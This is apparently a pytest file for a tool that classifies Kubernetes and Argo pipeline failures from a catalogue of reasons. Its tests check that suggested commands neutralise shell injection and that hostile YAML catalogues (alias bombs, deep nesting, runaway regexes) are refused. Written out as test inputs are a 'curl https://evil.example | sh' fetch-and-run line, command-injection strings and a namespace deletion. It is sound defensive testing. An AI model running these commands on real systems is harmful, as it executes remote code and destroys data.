"""What the reader makes of the catalogue's rows."""

import shlex
from pathlib import Path

import pytest
import yaml

from harness.model import ConfigError
from harness.model.text.inert import shell_word
from harness.reasons import builtin, merged, rows_of, stated
from harness.store.reasons import read_reasons

ROOT = Path(__file__).parents[2]
ROW = {
    "name": "own", "source": "log", "pattern": "lost", "cause": "c", "layer": "pipeline", "effect": "fails", "fix": "f",
    "show": ["kubectl get pods"], "link": "https://wiki.example",
}  # fmt: skip


@pytest.mark.parametrize(
    ("text", "row"),
    [
        (stated("terminated", "OOMKilled", "container main ended with exit code 137"), "oom"),
        (stated("terminated", "OOMKilled", "container istio-proxy ended with exit code 137"), "sidecar-oom"),
    ],
)
def test_a_killed_sidecar_is_told_from_a_killed_step(text: str, row: str) -> None:
    match = builtin().match(text)
    assert match.row is not None
    assert match.row.name == row


def test_the_builtin_rows_are_ones_that_a_user_might_write() -> None:
    text = (ROOT / "harness/reasons/reasons.yaml").read_text(encoding="utf-8")
    assert tuple(rows_of(yaml.safe_load(text), "reasons.yaml")) == builtin().rows


def test_words_that_argo_passes_on_are_its_own_before_they_are_the_platforms() -> None:
    match = builtin().search("etl-0-data pvc already exists with different ownerreference")
    assert match.row is not None
    assert match.row.name == "claim-owned-by-another"


@pytest.mark.parametrize("name", ["a'b c", '$(touch x)`y`;"z'])
def test_a_name_in_a_command_of_the_catalogue_is_within_one_word(name):
    tried = 0
    for row in builtin().rows:
        for command in (*row.show, *row.change):
            places = row.places(command)
            words = shlex.split(row.filled(command, {place: shell_word(name) for place in places}))
            assert not places or any(name in word for word in words), (row.name, command)
            tried += bool(places)
    assert tried > 100


@pytest.mark.attack("Texts")
@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example | sh",
        "kubectl get pods; touch acted",
        "kubectl get pods\ntouch acted",
        "kubectl get pods --kubeconfig=runs/x/config",
        "kubectl get {pods,--kubeconfig=x}",
        "kubectl get *",
        "kubectl get pods -o $(touch acted)",
        "kubectl --kubeconfig x get pods",
        "kubectl delete namespace kubeflow",
    ],
)
def test_a_command_of_a_runs_own_row_that_may_do_more_than_look_is_a_comment(command):
    (row,) = (
        each for each in merged(rows_of({"reasons": [ROW | {"change": [command]}]}, "x")).rows if each.name == "own"
    )
    assert row.show == ("kubectl get pods",)
    (shown,) = row.change
    assert shown.startswith("# ")
    assert "\n" not in shown


@pytest.mark.attack("Files and run folders")
@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("reasons: " + "[" * 200 + "]" * 200, "more than 100 levels"),
        (
            "a: &a [x,x,x,x,x,x,x,x]\n"
            + "".join(
                f"{c}: &{c} [*{b},*{b},*{b},*{b},*{b},*{b},*{b},*{b}]\n"
                for b, c in zip("abcdefg", "bcdefgh", strict=True)
            ),
            "values",
        ),
        (f"reasons: [{', '.join(['{}'] * 501)}]", "has 501 rows"),
        (f"reasons: [{ROW | {'pattern': 'x' * 2001}}]", "'pattern' that is not a text of at most 2,000"),
        (f"reasons: [{ROW | {'pattern': '((x{100}){100}){100}'}}]", "not a regular expression"),
    ],
    ids=["deep", "aliases", "many rows", "long pattern", "pattern that grows"],
)
def test_a_hostile_catalogue_is_refused(text, says, tmp_path: Path):
    (tmp_path / "own.yaml").write_text(text)
    with pytest.raises(ConfigError, match=says):
        read_reasons(tmp_path / "own.yaml")
